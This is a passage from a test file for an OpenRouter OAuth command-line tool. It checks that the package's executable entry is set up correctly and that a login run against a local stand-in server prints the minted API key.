    expect(manifest.bin).toEqual({ "openrouter-oauth": "./dist/cjs/src/node/cli.js" });
    const file = join(repoRoot, manifest.bin["openrouter-oauth"]!);
    expect(readFileSync(file, "utf8").startsWith("#!/usr/bin/env node\n")).toBe(true);
    expect(() => accessSync(file, constants.X_OK)).not.toThrow();

    const run = runCli(["login", "--no-open", "--server-url", standIn.apiUrl], { bin: true });
    await visitConsentPage(await run.url);
    expect((await run.done).code, summary(run)).toBe(0);
    expect(run.stdout()).toBe(`${mintedKey()}\n`);
  });
});
